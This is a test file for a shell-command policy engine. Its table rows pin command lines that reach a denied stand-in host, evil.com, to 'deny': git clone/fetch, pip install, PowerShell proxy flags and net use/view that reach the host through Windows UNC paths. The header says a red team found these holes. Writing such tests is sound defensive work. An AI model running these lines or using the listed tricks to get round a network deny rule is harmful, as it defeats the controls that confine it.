// Network reach found by a fourth red team of Domain rules (fetch and URL parsing): hosts a line
// reaches that a deny rule names while the engine allowed it. Rows pin each hole closed; the
// ordinary lines beside them stay allowed.
import { describe } from 'vitest';
import { lineTable } from './helpers/line-table.js';
import { REPO_WINDOWS } from './helpers/policy.js';

const DENY_EVIL = { deny: ['Domain(evil.com)', 'Domain(*.evil.com)'], allow: ['Shell(*)', 'Domain(*)'] };

describe('git file:// URLs with a host: Git for Windows opens //HOST/path, a UNC path (SMB to HOST)', () => {
  lineTable(DENY_EVIL, [
    ['git clone file://evil.com/r', 'deny'],
    ['git clone file://EVIL.com/s/r.git', 'deny'],
    ['git push file://evil.com/r main', 'deny'],
    ['git -c remote.origin.url=file://evil.com/r fetch', 'deny'],
    ['git -c url.file://evil.com/.insteadOf=https://github.com/ clone https://github.com/r', 'deny'],
    ['git clone file:///C:/src/r', 'allow'],
    ['git clone file:///r', 'allow'],
    ['git clone https://github.com/o/r', 'allow'],
    ['git status', 'allow'],
  ], 'shell', REPO_WINDOWS);
  lineTable(DENY_EVIL, [
    ['git clone file://evil.com/r', 'deny'],
    ['git clone file:///C:/src/r', 'allow'],
  ], 'pwsh', REPO_WINDOWS);
});

describe('file:// URLs with a host given to package managers and inline code: a UNC path on Windows', () => {
  lineTable(DENY_EVIL, [
    ['pip install file://evil.com/s/x.whl', 'deny'],
    ['pip install file:////evil.com/s/x.whl', 'deny'],
    ['pip install --find-links file://evil.com/s x', 'deny'],
    ['pip install -i file://EVIL.com/s x', 'deny'],
    ['pip install "x @ file://evil.com/s/x.whl"', 'deny'],
    ['python -c \'import urllib.request as u; u.urlopen("file://evil.com/s/x")\'', 'deny'],
    ['pip install file:///C:/w/x.whl', 'allow'],
    ['pip install file://localhost/C:/w/x.whl', 'allow'],
    ['pip install file://github.com/s/x.whl', 'allow'],
    ['pip install -r requirements.txt', 'allow'],
  ], 'shell', REPO_WINDOWS);
  lineTable(DENY_EVIL, [
    ['pip install file://evil.com/s/x.whl', 'deny'],
    ['pip install file:///tmp/x.whl', 'allow'],
    ['npm test', 'allow'],
  ]);
});

describe('PowerShell proxies: Start-BitsTransfer -ProxyList, and a proxy written without a scheme', () => {
  lineTable(DENY_EVIL, [
    ['Start-BitsTransfer -ProxyList evil.com:80 -ProxyUsage Override https://github.com/x x', 'deny'],
    ['Start-BitsTransfer -ProxyList http://evil.com:80 -ProxyUsage Override https://github.com/x x', 'deny'],
    ['Start-BitsTransfer -ProxyL evil.com https://github.com/x x', 'deny'],
    ['Start-BitsTransfer -ProxyList "github.com;evil.com" https://github.com/x x', 'deny'],
    ['Save-Module x -Path . -Proxy evil.com:8080', 'deny'],
    ['Start-BitsTransfer -ProxyList github.com:8080 https://github.com/x x', 'allow'],
    ['Start-BitsTransfer https://github.com/x x', 'allow'],
    ['Save-Module x -Path . -Proxy http://github.com:8080', 'allow'],
    ['Get-Content a.txt', 'allow'],
  ], 'pwsh', REPO_WINDOWS);
});

// `file://evil.com:22/r` and `file://u@evil.com/r`: Git for Windows and pip open `\\evil.com:22\r`
// and `\\u@evil.com\r`, UNC servers no path reading accepts (a `:`), or read as WebDAV's `h@…`
// (the server `u`). What Windows' redirectors make of them is not known: each name (not a port)
// is a host reached. On linux git opens the path here and ignores the host.
describe('file:// URLs with a port or user on a UNC server (were allowed)', () => {
  const CONNECTING = [
    'git clone file://evil.com:22/r', 'git clone file://u@evil.com/r', 'git clone file://u@evil.com:22/r', 'git fetch file://evil.com:22/r',
    'git fetch file://u@evil.com/r', 'git remote add o file://evil.com:22/r', 'git remote add o file://u@evil.com/r',
    'git submodule add file://evil.com:22/r', 'git submodule add file://u@evil.com/r', 'git ls-remote file://evil.com:/r',
    'pip install file://evil.com:22/x', 'pip install file://u@evil.com/x', 'cat //evil.com:445/s/x', 'cat //u@evil.com/s/x',
  ];
  lineTable(DENY_EVIL, [
    ...CONNECTING.map((line): [string, 'deny'] => [line, 'deny']),
    // Precision: WebDAV's spelling reaches its host alone; this machine; a local file URL.
    ['cat //evil.com@SSL@443/s/x', 'deny'], ['cat //good.com@SSL@443/s/x', 'allow'], ['git clone file://localhost:22/r', 'allow'],
    ['git clone file://u@localhost/r', 'allow'], ['git clone file:///C:/src/r', 'allow'],
  ], 'shell', REPO_WINDOWS);
  lineTable(DENY_EVIL, [
    ['git clone file://evil.com:22/r', 'deny'], ['git clone file://u@evil.com/r', 'deny'],
    // (A native tool's `\\SERVER` word, read the same way: it asked, as a possible path.)
    ['net view \\\\u@evil.com', 'deny'], ['sc.exe \\\\u@evil.com query', 'deny'], ['net use x: \\\\evil.com:22\\s', 'deny'],
    ['net use x: \\\\evil.com@SSL@443\\s', 'deny'], ['net view \\\\good.com@SSL@443', 'allow'], ['net view \\\\server1', 'allow'],
  ], 'pwsh', REPO_WINDOWS);
  lineTable(DENY_EVIL, [
    ['git clone file://evil.com:22/r', 'allow'], ['git clone file://u@evil.com/r', 'allow'], ['git fetch file://u@evil.com/r', 'allow'],
    ['git submodule add file://evil.com:22/r', 'allow'], ['git remote add o file://u@evil.com/r', 'allow'],
    // (pip refuses a file URL with a host on linux: denied all the same, as before.)
    ['pip install file://u@evil.com/x', 'deny'],
  ]);
});
